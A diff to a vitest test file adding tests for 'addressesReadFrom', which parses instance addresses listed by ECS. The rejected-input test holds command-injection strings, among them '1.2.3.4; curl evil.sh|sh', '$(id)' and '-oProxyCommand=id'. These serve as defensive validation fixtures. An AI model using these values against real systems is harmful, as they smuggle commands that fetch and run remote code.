@@ -1,6 +1,7 @@
 import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { ApiError } from './api-error';
 import {
+  addressesReadFrom,
   drifts,
   fingerprintReadFrom,
   harmless,
@@ -48,6 +49,19 @@ describe('the fingerprint of a listed key pair', () => {
     'is not known where ECS lists “%s”',
     async (listed) => {
       expect(await fingerprintReadFrom(listed)).toBe('');
+    },
+  );
+});
+
+describe('the addresses of a listed instance', () => {
+  it.each(['203.0.113.7', '2001:db8::7', '::ffff:203.0.113.7'])('are %s', async (listed) => {
+    expect(await addressesReadFrom(listed)).toEqual([listed, listed, listed]);
+  });
+
+  it.each(['1.2.3.4; curl evil.sh|sh', '$(id)', '-oProxyCommand=id', '1.2.3', '1.2.3.4\n', 'a.b'])(
+    'are left out where ECS lists “%s”',
+    async (listed) => {
+      expect(await addressesReadFrom(listed)).toEqual(['']);
     },
   );
 });
